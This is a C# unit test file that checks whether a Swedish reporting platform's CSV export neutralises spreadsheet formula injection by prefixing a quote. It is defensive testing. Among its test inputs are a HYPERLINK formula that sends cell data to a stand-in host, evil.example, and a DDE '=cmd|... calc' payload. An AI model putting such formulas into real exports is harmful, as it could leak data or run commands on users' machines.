using System.Globalization;
using System.Text;
using Platform.Client.Models;
using Platform.Reporting.Reports;

namespace Platform.Reporting.Tests;

/// <summary>The CSV report opened as a spreadsheet would open it: no text it carries runs as a formula.</summary>
public sealed class CsvInjectionTests
{
    /// <summary>Every cell of <see cref="HostileReport"/> that holds the user's text, as table/row/column.</summary>
    private static readonly string[] UserTextCells =
    [
        "Rapport/1/Rubrik",
        "Försättsblad/1/Värde", "Försättsblad/2/Värde", "Försättsblad/3/Värde", "Försättsblad/4/Värde", "Försättsblad/5/Värde",
        "Uppdrag/1/Värde", "Uppdrag/2/Värde", "Uppdrag/5/Värde", "Uppdrag/6/Värde",
        "Samverkansforum/1/Forum", "Samverkansforum/1/Omfattning",
        "Dialogmöten/1/Möte", "Dialogmöten/1/Forum",
        "Insatser/1/Insats", "Insatser/1/Status", "Insatser/1/Ansvarig aktör", "Resultat/1/Insats", "Resultat/1/Indikator", "Resultat/1/Enhet",
        "Utmaningar/1/Referens", "Utmaningar/1/Tema", "Utmaningar/1/Utmaning", "Utmaningar/1/Status", "Utmaningar/1/Län",
        "Behov per status/1/Status",
        "Lärdomar/1/Lärdom", "Lärdomar/1/Målgrupper", "Lärdomar/1/Text",
        "Dialog med parterna/1/Part", "Ej nådda parter/1/Part", "Ej nådda parter/1/Aktör",
        "Utfall per kategori/1/Kostnadsslag",
        "Utfall per insats/1/Insats", "Utanför budgetåret/1/Insats", "Utanför budgetåret/1/Kostnadsslag",
    ];

    private static CancellationToken Token => TestContext.Current.CancellationToken;

    [Theory]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("+1", "'+1")]
    [InlineData("-1", "'-1")]
    [InlineData("@A1", "'@A1")]
    [InlineData("\t=1+1", "'\t=1+1")]
    [InlineData("\r=1+1", "'\r=1+1")]
    [InlineData("Luleå = 2+2", "Luleå = 2+2")]
    [InlineData("'=1+1", "'=1+1")]
    [InlineData("", "")]
    public void Text_starting_like_a_formula_gets_a_leading_quote(string text, string written) =>
        Assert.Equal(written, FormulaInjection.Neutralise(text));

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"Klicka här\")")]
    [InlineData("=cmd|' /C calc'!A0")]
    [InlineData("+46 70 123 45 67")]
    [InlineData("-2+3")]
    [InlineData("-1500.00")]
    [InlineData("@SUM(1+1)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    public async Task User_text_a_spreadsheet_would_run_as_a_formula_gets_a_leading_quote(string text)
    {
        var records = await CsvAsync(HostileReport.With(text));

        Assert.All(records.SelectMany(record => record), field =>
            Assert.False(StartsAFormula(field) && !IsNumber(field), $"a spreadsheet runs {field} as a formula"));
        Assert.Equal(UserTextCells, records.Where(record => record[3] == $"'{text}").Select(record => $"{record[0]}/{record[1]}/{record[2]}"));
    }

    [Fact]
    public async Task A_negative_amount_stays_a_number()
    {
        var records = await CsvAsync(HostileReport.With("Kompetenslyft i norr"));

        var remaining = records.Single(record => record is ["Ekonomisk redovisning", "4", "Belopp (kr)", _])[3];
        Assert.Equal("-1500.00", remaining);
        Assert.Equal(HostileReport.Remaining, decimal.Parse(remaining, NumberStyles.AllowLeadingSign | NumberStyles.AllowDecimalPoint, CultureInfo.InvariantCulture));
    }

    [Fact]
    public async Task Text_that_starts_like_no_formula_is_unchanged()
    {
        var records = await CsvAsync(HostileReport.With("Kompetenslyft i norr = 2+2 @ Luleå"));

        Assert.Equal(UserTextCells, records.Where(record => record[3] == "Kompetenslyft i norr = 2+2 @ Luleå").Select(record => $"{record[0]}/{record[1]}/{record[2]}"));
    }

    private static async Task<List<string[]>> CsvAsync(ReportDocument report)
    {
        var rendered = await ReportRenderer.RenderAsync(report, ReportFormats.Csv, null, Token, CsvDialects.Rfc4180);
        return Rfc4180.Parse(Encoding.UTF8.GetString(rendered.Content));
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"Klicka här\")")]
    [InlineData("+46 70 123 45 67")]
    [InlineData("@SUM(1+1)")]
    [InlineData("\t=1+1")]
    public async Task The_Excel_dialect_neutralises_the_same_text_and_keeps_a_negative_amount_a_number(string text)
    {
        var rendered = await ReportRenderer.RenderAsync(HostileReport.With(text), ReportFormats.Csv, null, Token);
        Assert.Equal(Encoding.UTF8.GetPreamble(), rendered.Content[..3]);
        var fields = Rfc4180.Parse(Encoding.UTF8.GetString(rendered.Content[3..]), ';').SelectMany(record => record).ToList();

        Assert.All(fields, field => Assert.False(StartsAFormula(field) && !IsNumber(field.Replace(',', '.')), $"a spreadsheet runs {field} as a formula"));
        Assert.Contains($"'{text}", fields);
        Assert.Contains("-1500,00", fields);
    }

    /// <summary>OWASP's list of what makes a spreadsheet read a cell as a formula (or as the start of one).</summary>
    private static bool StartsAFormula(string field) => field.Length > 0 && field[0] is '=' or '+' or '-' or '@' or '\t' or '\r';

    private static bool IsNumber(string field) =>
        decimal.TryParse(field, NumberStyles.AllowLeadingSign | NumberStyles.AllowDecimalPoint, CultureInfo.InvariantCulture, out _);
}
